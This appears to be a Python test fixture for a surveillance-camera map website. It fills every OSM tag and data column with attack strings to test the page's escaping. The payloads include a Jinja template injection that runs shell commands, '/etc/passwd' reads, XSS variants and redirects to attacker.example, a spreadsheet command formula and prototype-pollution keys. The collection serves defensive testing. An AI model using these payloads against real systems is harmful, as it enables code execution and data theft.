"""
Cameras whose every value is an attack: the payload families of the threat list.

``hostile_elements`` gives OSM JSON elements, as a mapper could upload them; ``hostile_rows``
gives rows of a released frame that skipped all cleaning, so that the page is tested alone.
Run as ``python -m tests.website.hostile_cameras FILE``, it writes the elements to a file.
"""

import json
import sys
from collections.abc import Iterator
from pathlib import Path

from tests.website.frames import camera

SPAWNING = "{{cycler.__init__.__globals__.os.popen(dict(id=1)|first).read()}}"
"""Runs a command on the building machine wherever it is read as a template."""

PRODUCT = "8641969"
"""What ``{{1234567*7}}`` becomes where it is evaluated; no payload holds it."""

TEMPLATES = (
    SPAWNING,
    "{{1234567*7}}",
    "${1234567*7}",
    "#{1234567*7}",
    "{% raw %}",
    "{%endraw%}{{1234567*7}}",
    "{% include '/etc/passwd' %}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{# comment",
    "{{ self.__init__.__globals__ }}",
    "{{request|attr('application')}}",
    "@@BODY@@",
    "@@POLICY@@",
    "`${window.__x=1}`",
)
MARKUP = (
    "<script>window.__x=1</script>",
    "<img src=x onerror=window.__x=1>",
    "<svg/onload=alert(1)>",
    "</script><script>alert(1)</script>",
    "<!--<script>",
    "]]><script>alert(1)</script>",
    "'\"><iframe srcdoc='<script>parent.__x=1</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=https://attacker.example/'>",
    "<link rel=stylesheet href=https://attacker.example/x.css>",
    "<base href=https://attacker.example/>",
    "<form action=https://attacker.example/><input autofocus onfocus=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    '");alert(1);("',
    "'-alert(1)-'",
    "\\",
    '\\"',
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//attacker.example/x",
    "https://user:secret@attacker.example/",
    "https://attacker.example/pixel.gif",
    "file:///etc/passwd",
    "http://xn--pypal-4ve.example/",
)
UNICODE = (
    "\u202egnp.exe",
    "\u2066left\u2069",
    "zero\u200bwidth\ufeff",
    "nul\x00byte",
    "bell\x07and\x1b[31mcolour",
    "line\u2028end\u2029par",
    "z" + "\u0301" * 60,
    "\u0661\u0662\u0663",
    "é e\u0301",
    "👁" * 20,
    "ﷺ" * 10,
)
FORMULAS = ("=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tTAB", "\rCR", "\uff1d1+1", "x;=1+1")
HUGE = ("A" * 5_000, ";".join("N" for _ in range(1_000)), "[" * 2_000, "1e999" * 800)
KEYS = ("__proto__", "constructor", "toString", "hasOwnProperty", "null", "undefined", "*", "NaN")

PAYLOADS = (*TEMPLATES, *MARKUP, *ADDRESSES, *UNICODE, *FORMULAS, *HUGE, *KEYS)

_TEXT_COLUMNS = (
    "camera_type",
    "mount",
    "zone",
    "visibility",
    "directions_as_written",
    "operator_name",
    "vendor_as_written",
    "vendor_method",
    "country_code",
    "administered_by",
    "nearest_place",
    "first_mapped_on",
    "installed_on",
    "last_checked_on",
    "source_url",
    "license_id",
    "retrieved_at_utc",
)
_TAGS = (
    "camera:type",
    "camera:mount",
    "camera:direction",
    "direction",
    "surveillance:zone",
    "manufacturer",
    "manufacturer:wikidata",
    "brand",
    "surveillance:brand",
    "model",
    "operator",
    "operator:wikidata",
    "start_date",
    "check_date",
    "height",
    "name",
    "website",
    "image",
    "note",
)


def payload(number: int, place: int) -> str:
    """Return the payload of the ``place``-th text of the ``number``-th camera; all are used."""
    return PAYLOADS[(number + 7 * place) % len(PAYLOADS)]


def hostile_rows(count: int) -> Iterator[dict[str, object]]:
    """Yield rows for ``frames.frame`` in which every text is a payload as it stands."""
    for number in range(count):
        texts = {name: payload(number, place) for place, name in enumerate(_TEXT_COLUMNS)}
        lon_deg, lat_deg = place_of(number)
        yield camera(
            number,
            lon_deg,
            lat_deg,
            **texts,
            camera_id=f"osm:{number}/{payload(number, 30)}",
            source_ref=f"{number}/{payload(number, 30)}",
            vendor_id=f"vendor-{number % 20}",
            flags=[payload(number, 31)],
        )


def hostile_elements(count: int) -> list[dict[str, object]]:
    """Return OSM JSON elements, each a camera with a payload behind every key that is read."""
    elements: list[dict[str, object]] = []
    for number in range(count):
        lon_deg, lat_deg = place_of(number)
        tags = {name: payload(number, place) for place, name in enumerate(_TAGS)}
        tags |= {"man_made": "surveillance", "surveillance": "public"}
        # An organisation's form lets the name of the operator through the privacy gate.
        tags["operator"] += " GmbH"
        if number % 3 == 0:
            tags["surveillance:type"] = "ALPR"
        elements.append(
            {
                "type": "node",
                "id": 4_000_000_000 + number,
                "lon": lon_deg,
                "lat": lat_deg,
                "version": 1,
                "timestamp": "2024-05-01T00:00:00Z",
                "tags": tags,
            }
        )
    return elements


def place_of(number: int) -> tuple[float, float]:
    """Return a place of a lattice in Helsinki, about 25 m apart: every camera can be clicked."""
    return 24.93 + (number % 40) * 0.0005, 60.165 + (number // 40) * 0.00025


def hostile_body(count: int) -> dict[str, object]:
    """Return a whole Overpass answer."""
    return {
        "version": 0.6,
        "generator": "Overpass API",
        "osm3s": {"timestamp_osm_base": "2024-05-02T00:00:00Z", "copyright": "ODbL"},
        "elements": hostile_elements(count),
    }


if __name__ == "__main__":
    Path(sys.argv[1]).write_text(json.dumps(hostile_body(1_000)), encoding="utf-8")
